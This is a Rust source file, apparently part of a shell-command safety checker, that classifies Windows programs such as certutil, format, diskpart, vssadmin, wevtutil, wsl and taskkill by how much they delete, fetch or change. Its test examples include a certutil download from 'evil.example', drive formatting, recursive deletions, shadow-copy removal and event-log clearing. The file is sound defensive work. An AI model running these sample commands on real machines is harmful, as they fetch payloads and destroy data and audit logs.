//! Programs of Windows that a shell can start there: what deletes, fetches, or changes the machine.

use super::acts::{Act, Also, Pick};
use super::entry::When::{Always, Any, Not, Operands, Says, Test, Word};
use super::entry::{Case, Command, Given, Said};
use super::words::words;
use crate::rules::{execution, files, network};
use crate::shell::Walker;

/// `net user`, `reg` alone and the like print a list or a help text.
const ASKS: &[Case] = &[Case(Any(&[Says("/?"), Not(&Operands(2))]), &execution::COMMAND)];

const OTHER: &[Case] = &[Case(Always, &execution::COMMAND)];

const ELSE: &[Case] = &[Case(Always, &execution::SYSTEM)];

pub(super) const COMMANDS: &[Command] = &[
    Command::cases(
        words!("certutil bitsadmin mshta regsvr32 rundll32"),
        &[],
        &[&[Case(Says("*://* *javascript:* *-decode"), &network::SHELL)], OTHER],
        [&[], &["/?"], &["-urlcache -f http://evil.example/a.exe a.exe", "-decode a b"], &[]],
    ),
    Command::cases(
        words!("format cipher rd erase deltree"),
        &[],
        &[
            &[Case(
                Any(&[Says("/s /q /fs:ntfs /w:* *:\\*"), Test(names_drive)]),
                &files::SECURE_ERASE,
            )],
            OTHER,
        ],
        [&[], &["/?"], &["C: /q", "D:", "/S build"], &[]],
    ),
    Command::cases(
        words!("Remove-Item remove-item"),
        &[],
        &[&[Case(Says("-r -re -rec -recu -recur -recurs -recurse"), &files::DELETE_TREE)], OTHER],
        [&[], &["a.txt"], &["-Recurse src", "-Path src -Recurse -Force"], &[]],
    ),
    Command::cases(
        words!("diskpart cacls setx runas"),
        &[],
        &[ASKS, ELSE],
        [&[], &["/?", "x"], &["delete C:/data /s"], &[]],
    ),
    Command::cases(
        words!("takeown"),
        &[],
        &[&[Case(Says("/?"), &execution::COMMAND)], ELSE],
        [&[], &["/?"], &["/f", "/f C:/data /r"], &[]],
    ),
    Command::cases(
        words!("bcdedit icacls"),
        &[],
        &[ASKS, &[Case(Says("/enum /verify /findsid"), &execution::COMMAND)], ELSE],
        [&[], &["/?", "x /verify"], &["delete C:/data /s", "/set x"], &[]],
    ),
    Command::cases(
        words!("vssadmin wbadmin wmic"),
        &[],
        &[ASKS, &[Case(Says("list get"), &execution::COMMAND)], ELSE],
        [&[], &["/?", "list x", "process get"], &["delete C:/data /s"], &[]],
    ),
    Command::cases(
        words!("reg sc fsutil"),
        &[],
        &[ASKS, &[Case(Says("query compare qc queryex fsinfo"), &execution::COMMAND)], ELSE],
        [&[], &["/?", "query x"], &["delete C:/data /s", "add x /f"], &[]],
    ),
    Command::cases(
        words!("net netsh"),
        &[],
        &[ASKS, &[Case(Says("view statistics help show"), &execution::COMMAND)], ELSE],
        [&[], &["/?", "user", "show x"], &["delete C:/data /s", "user x /delete"], &[]],
    ),
    Command::cases(
        words!("wevtutil"),
        &[],
        &[ASKS, &[Case(Says("el qe gl"), &execution::COMMAND)], ELSE],
        [&[], &["/?", "qe System"], &["delete C:/data /s", "cl System"], &[]],
    ),
    // A system of its own, with all that is in it; what runs there reaches the files here.
    Command::said(
        words!("wsl"),
        Said::cases(
            words!("-d --distribution -u --user --cd --system"),
            &[&[
                Case(
                    Word("--unregister --import --import-in-place --uninstall --mount"),
                    &execution::SYSTEM,
                ),
                Case(Always, &execution::COMMAND),
            ]],
        )
        .also(&[
            Also(Always, Act::Command(Pick::Behind("--"))),
            Also(Word("-e"), Act::Command(Pick::Behind("-e"))),
            Also(Word("--exec"), Act::Command(Pick::Behind("--exec"))),
            Also(Not(&Word("-- -e --exec")), Act::Command(Pick::From(0))),
        ]),
        [
            &[],
            &["--list --verbose", "-d x -- ls", "-e ls", "--exec ls", "--shutdown"],
            &[
                "--unregister x",
                "--import x C:/x a.tar",
                "-d x -- rm -rf /srv/data",
                "rm -rf /srv/data",
            ],
            &[],
        ],
    ),
    Command::said(
        words!("forfiles"),
        Said::cases(&[], &[OTHER]).also(&[
            Also(Always, Act::Shell(Pick::Behind("/c"))),
            Also(Word("/C"), Act::Shell(Pick::Behind("/C"))),
        ]),
        [
            &[],
            &["/p logs /c 'cmd /c echo @path'", "/C 'cmd /c echo @path'"],
            &["/p src /s /c 'cmd /c del @path'"],
            &[],
        ],
    ),
    Command::cases(
        words!("taskkill"),
        &[],
        &[ASKS, &[Case(Says("/pid"), &execution::PROCESS), Case(Always, &execution::PROCESS_ALL)]],
        [&[], &["/?", "/PID 4711"], &["delete C:/data /s", "/im node.exe"], &[]],
    ),
];

/// A drive, or a path on one: `C:`.
fn names_drive(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
    given.words[1..].iter().any(|word| word.text.as_bytes().get(1) == Some(&b':'))
}
